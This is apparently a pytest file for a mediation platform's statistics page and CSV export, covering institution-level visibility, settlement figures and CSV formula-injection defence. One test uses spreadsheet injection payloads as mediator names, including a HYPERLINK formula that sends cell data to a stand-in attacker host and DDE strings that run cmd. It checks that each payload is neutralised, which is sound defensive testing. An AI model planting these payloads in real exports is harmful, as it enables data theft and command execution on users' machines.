"""Statistics for institutions and the platform, as a page with SVG charts and as CSV."""

import csv
import io
from datetime import timedelta

from mediation.accounts.models import Role
from mediation.cases import respondent, statistics, workflow
from mediation.cases.states import Action, TerminationReason
from mediation.extensions import db
from tests.conftest import login
from tests.factories import PASSWORD, make_case, make_institution, make_mediator, make_user


def settle(case, days):
    respondent.answer(
        case,
        by=case.party_users()[1],
        agree=True,
        consent=True,
        service_address="南京",
        service_confirmed=True,
    )
    workflow.transition(case, Action.draft_agreement, by=case.mediator)
    workflow.transition(
        case, Action.all_signed, by=None, now=case.accepted_at + timedelta(days=days)
    )


def build(app):
    with app.app_context():
        institution, elsewhere = make_institution(), make_institution()
        wang = make_mediator(institution, real_name="王调解")
        other = make_mediator(elsewhere, real_name="外机构调解员")
        for days in (4, 10):
            settle(make_case(make_user(), make_user(), mediator=wang), days)
        ended = make_case(make_user(), make_user(), mediator=wang)
        workflow.transition(
            ended, Action.terminate, by=wang, reason=TerminationReason.too_far_apart
        )
        make_case(make_user(), make_user(), mediator=other)
        admin = make_user(Role.institution_admin, institution_id=institution.id).phone
        platform = make_user(Role.platform_admin).phone
        db.session.commit()
        return admin, platform


def test_the_institution_sees_its_own_figures(app):
    admin, _ = build(app)
    client = app.test_client()
    login(client, admin, PASSWORD)
    page = client.get("/statistics").get_data(as_text=True)
    assert "<svg" in page and "邻里纠纷" in page
    assert "王调解" in page and "外机构调解员" not in page
    assert "67%" in page  # two agreements out of three finished cases
    csv_text = client.get("/statistics.csv").get_data(as_text=True)
    lines = csv_text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("调解员,")
    assert lines[1] == "王调解,3,2,1,66.7%,7.0"  # median of 4 and 10 days


def test_the_platform_sees_every_institution(app):
    _, platform = build(app)
    client = app.test_client()
    login(client, platform, PASSWORD)
    page = client.get("/statistics").get_data(as_text=True)
    assert "王调解" in page and "外机构调解员" in page


def test_a_name_that_looks_like_a_formula_is_written_as_text(app):
    """CSV injection (issue #15): a mediator named like a formula comes out with a leading
    apostrophe, so a spreadsheet shows the text instead of running it (OWASP: = + - @, tab,
    carriage return)."""
    with app.app_context():
        institution = make_institution()
        names = [
            '=HYPERLINK("http://evil.example/?"&A1,"点我")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "＝1+1",
        ]
        for name in names:
            mediator = make_mediator(institution, real_name=name)
            make_case(make_user(), make_user(), mediator=mediator)
        admin = make_user(Role.institution_admin, institution_id=institution.id).phone
        db.session.commit()
    client = app.test_client()
    login(client, admin, PASSWORD)
    rows = list(csv.reader(io.StringIO(client.get("/statistics.csv").get_data(as_text=True))))
    written = {row[0] for row in rows[1:-1]}
    assert written == {"'" + name for name in names}
    assert not rows[-1][0].startswith("'")  # the totals' own heading


def test_text_cells_starting_with_tab_or_carriage_return_are_neutralised():
    # Names are stripped when saved; any other text cell may still start with them.
    assert statistics.spreadsheet_text("\t=1+1") == "'\t=1+1"
    assert statistics.spreadsheet_text("\r=1+1") == "'\r=1+1"
    assert statistics.spreadsheet_text("王调解") == "王调解"
